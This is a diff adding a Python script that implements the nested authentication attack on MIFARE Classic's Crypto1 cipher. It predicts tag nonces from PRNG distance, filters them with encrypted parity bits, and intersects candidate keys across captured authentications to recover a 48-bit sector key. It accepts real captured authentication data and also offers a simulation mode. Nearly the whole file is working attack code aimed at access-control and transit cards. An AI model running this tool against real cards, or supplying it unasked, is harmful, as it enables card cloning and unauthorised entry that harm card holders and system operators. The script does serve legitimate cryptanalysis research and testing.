@@ -0,0 +1,141 @@
+#!/bin/env python3
+#
+# Nested authentication attack. With one sector key known the
+# tag nonce of a nested authentication is predictable from the
+# previous nonce and the PRNG distance, giving 32 keystream bits
+# per guess plus the encrypted parity bits.
+#
+
+import FastCrypto1 as fc
+import numpy as np
+import argparse
+import random
+import time
+
+# Number of PRNG steps from nt1 to nt2
+def NonceDistance (nt1, nt2, limit=65535):
+    x = nt1
+    for n in range (limit + 1):
+        if x == nt2:
+            return n
+        x = fc.PrngSuccessor (x, 1)
+    return None
+
+# Encrypted parity bits are parity(nt byte) ^ keystream bit that
+# follows the byte. Bytes 0-2 can be checked on the nonce alone.
+def CheckParity (nt, nt_enc, par):
+    ks = nt ^ nt_enc
+    for n in range (3):
+        byte = (nt >> (24 - 8 * n)) & 0xFF
+        if fc.OddParity8 (byte) ^ ((ks >> (16 - 8 * n)) & 1) != par[n]:
+            return False
+    return True
+
+class NestedAttack:
+    '''
+    Collect nested authentications to the same sector and
+    intersect the candidate keys from each one.
+    '''
+    def __init__ (self, uid, distance, tolerance=10):
+        self.uid = uid
+        self.distance = distance
+        self.tolerance = tolerance
+        self.keys = None
+        self.auths = 0
+
+    # Candidate tag nonces for a nested authentication
+    def Nonces (self, nt_prev, nt_enc, par):
+        lo = max (0, self.distance - self.tolerance)
+        nt = fc.PrngSuccessor (nt_prev, lo)
+        ret = []
+        for d in range (lo, self.distance + self.tolerance + 1):
+            if CheckParity (nt, nt_enc, par):
+                ret.append (nt)
+            nt = fc.PrngSuccessor (nt, 1)
+        return ret
+
+    # Candidate keys for a single guessed nonce. The last parity
+    # bit is encrypted with the keystream bit after the nonce.
+    def Candidates (self, nt, nt_enc, par):
+        inp = fc.WordBits (self.uid ^ nt)
+        return fc.RecoverStates (fc.WordBits (nt ^ nt_enc), inp,
+                                 [(32, par[3] ^ fc.OddParity8 (nt & 0xFF))])
+
+    # Add authentication, nt_prev is the plaintext nonce of the
+    # preceding authentication with the known key.
+    def Add (self, nt_prev, nt_enc, par):
+        cand = [self.Candidates (nt, nt_enc, par)
+                for nt in self.Nonces (nt_prev, nt_enc, par)]
+        if len (cand):
+            cand = np.unique (np.concatenate (cand))
+        else:
+            cand = np.zeros (0, dtype=np.uint64)
+        if self.keys is None:
+            self.keys = cand
+        else:
+            self.keys = np.intersect1d (self.keys, cand, assume_unique=True)
+        self.auths += 1
+        return len (self.keys)
+
+    # Recovered keys (more than one if not enough auths added)
+    def Keys (self):
+        if self.keys is None:
+            return []
+        return [fc.StateToKey (int (x)) for x in self.keys]
+
+# Simulate nested auths for a random key
+def Simulate (key, uid, distance, count, jitter=0):
+    x = fc.PrngSuccessor (random.randint (0, 0xFFFF), 32)
+    ret = []
+    for n in range (count):
+        nt_prev = x
+        nt = fc.PrngSuccessor (nt_prev, distance + random.randint (-jitter, jitter))
+        ks, s = fc.Word (fc.KeyToState (key), uid ^ nt)
+        par = [fc.OddParity8 (nt >> (24 - 8 * i)) ^ ((ks >> (16 - 8 * i)) & 1)
+               for i in range (3)]
+        par.append (fc.OddParity8 (nt) ^ fc.Filter (s))
+        ret.append ((nt_prev, nt ^ ks, par))
+        x = fc.PrngSuccessor (nt, random.randint (1000, 2000))
+    return ret
+
+if __name__ == '__main__':
+
+    parser = argparse.ArgumentParser ()
+    parser.add_argument ('--uid', type=str, help='Tag uid')
+    parser.add_argument ('--dist', type=int, default=0,
+                         help='PRNG distance between nonces')
+    parser.add_argument ('--tol', type=int, default=10,
+                         help='Distance tolerance')
+    parser.add_argument ('--auth', type=str, action='append',
+                         help='nt_prev:nt_enc:par (par as 4 bit string, byte 0 first)')
+    parser.add_argument ('--simulate', type=int,
+                         help='Simulate n auths for a random key')
+    args = parser.parse_args ()
+    if not args.simulate and not args.auth:
+        parser.error ('one of --auth or --simulate is required')
+    if args.auth and not args.uid:
+        parser.error ('--auth needs --uid')
+
+    if args.simulate:
+        key = random.randint (0, 2**48 - 1)
+        uid = random.getrandbits (32)
+        dist = args.dist if args.dist else 160
+        print ('key={} uid={}'.format (hex (key), hex (uid)))
+        auths = Simulate (key, uid, dist, args.simulate, args.tol // 2)
+        attack = NestedAttack (uid, dist, args.tol)
+    else:
+        auths = []
+        for a in args.auth:
+            nt_prev, nt_enc, par = a.split (':')
+            auths.append ((int (nt_prev, 0), int (nt_enc, 0), [int (x) for x in par]))
+        attack = NestedAttack (int (args.uid, 0), args.dist, args.tol)
+
+    start = time.time ()
+    for a in auths:
+        cnt = attack.Add (*a)
+        print ('Auth {}: {} candidates'.format (attack.auths, cnt), flush=True)
+        if cnt == 1:
+            break
+    for k in attack.Keys ():
+        print ('Found key: {}'.format (hex (k)))
+    print ('Time: {:.2f}s'.format (time.time () - start))